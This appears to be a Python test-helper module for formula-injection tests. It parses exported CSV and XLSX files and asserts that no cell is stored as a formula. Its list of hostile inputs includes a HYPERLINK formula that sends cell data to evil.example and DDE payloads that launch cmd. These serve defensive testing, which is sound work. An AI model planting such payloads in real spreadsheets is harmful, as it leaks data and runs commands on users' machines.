"""Reading exported files back the way a spreadsheet would: what the formula-injection tests use."""

from __future__ import annotations

import csv
import io

from openpyxl import load_workbook

# Text a hostile participant or organiser might type, each starting as a formula would.
HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+66 2 141 6747",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def csv_rows(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))


def xlsx_cells(content: bytes, sheet: int = 0) -> list[list[tuple[str, object]]]:
    """Each cell as (openpyxl data type, value): "s" for a string, "f" for a formula, "n" …"""
    book = load_workbook(io.BytesIO(content))
    return [[(c.data_type, c.value) for c in row] for row in book.worksheets[sheet].iter_rows()]


def types_of(content: bytes, value: str, sheet: int = 0) -> set[str]:
    """The data types of the sheet's cells that hold `value`: {"s"} when it is text wherever it
    is; asserts first that no cell of the sheet is a formula."""
    cells = [cell for row in xlsx_cells(content, sheet) for cell in row]
    assert [c for c in cells if c[0] == "f"] == []
    return {data_type for data_type, held in cells if held == value}
